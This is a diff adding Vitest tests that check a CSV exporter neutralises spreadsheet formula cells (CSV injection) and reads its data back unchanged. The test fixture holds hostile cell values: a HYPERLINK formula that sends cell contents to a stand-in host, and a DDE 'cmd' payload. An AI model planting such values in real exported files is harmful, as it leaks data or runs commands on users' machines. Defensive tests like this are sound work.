@@ -1,7 +1,11 @@
+import type { Plan } from "@parcomms/core";
+import { csvParseRows } from "d3-dsv";
 import { describe, expect, it } from "vitest";
 import { errorOf, plan003 } from "./_testing";
+import { plansFromTables } from "./plansFromTables";
 import { planTables } from "./planTables";
 import type { Table } from "./Table";
+import { tablesFromCsv } from "./tablesFromCsv";
 import { tablesToCsv } from "./tablesToCsv";
 
 const sample: Table = {
@@ -107,5 +111,59 @@ describe("tablesToCsv", () => {
       column: "parts",
       message: 'table.bad-cell: sample.csv, row 1, column "parts": null in a column that is never null',
     });
+  });
+});
+
+/** Texts a spreadsheet would run (OWASP "CSV injection"), and two that only look alike. */
+const FORMULAS = [
+  '=HYPERLINK("http://example.invalid/?q="&A1,"Xem")',
+  "+84 912 345 678",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1,2)",
+  "\tTuyên truyền",
+  "\rTuyên truyền",
+  "-2",
+  "'=SUM(1,2) viết sẵn dấu nháy",
+];
+
+/** 003 with its title, first office names and first activities' titles and sub-task texts starting with each of FORMULAS. */
+function hostilePlan(): Plan {
+  const plan = structuredClone(plan003);
+  plan.title = `${FORMULAS[0]} ${plan.title}`;
+  plan.offices.forEach((office, i) => {
+    office.name = `${FORMULAS[i % FORMULAS.length]}${office.name}`;
+  });
+  plan.activities.forEach((activity, i) => {
+    activity.title = `${FORMULAS[(i + 1) % FORMULAS.length]}${activity.title}`;
+    activity.subtasks?.forEach((subtask, j) => {
+      subtask.text = `${FORMULAS[(i + j + 2) % FORMULAS.length]}${subtask.text}`;
+    });
+  });
+  return plan;
+}
+
+describe("tablesToCsv and formula cells", () => {
+  it('with formulas: "neutralise", no text cell starts with a formula character, and tablesFromCsv gives the plan back', () => {
+    const plan = hostilePlan();
+    const files = tablesToCsv(planTables([plan]), { formulas: "neutralise" });
+    const cells = Object.values(files).flatMap((text) => csvParseRows(text).flat());
+    // Every hostile start is there, each behind its apostrophe.
+    for (const formula of FORMULAS.slice(0, 7))
+      expect(cells.some((c) => c.startsWith(`'${formula}`))).toBe(true);
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(plansFromTables(tablesFromCsv(files))).toStrictEqual([plan]);
+  });
+
+  it("by default writes text as it is for pandas, R and DuckDB (-2 and +84 … unchanged) and reads it back exactly", () => {
+    const plan = hostilePlan();
+    const files = tablesToCsv(planTables([plan]));
+    const offices = csvParseRows(files["offices.csv"] ?? "");
+    const name = offices[0]?.indexOf("name") ?? -1;
+    expect(offices.slice(1, 9).map((row) => row[name])).toEqual([
+      ...FORMULAS.slice(0, 7).map((formula, i) => `${formula}${plan003.offices[i]?.name}`),
+      // The one text that starts with an apostrophe then a formula start gets one more, so the reader can tell.
+      `'${FORMULAS[7]}${plan003.offices[7]?.name}`,
+    ]);
+    expect(plansFromTables(tablesFromCsv(files))).toStrictEqual([plan]);
   });
 });
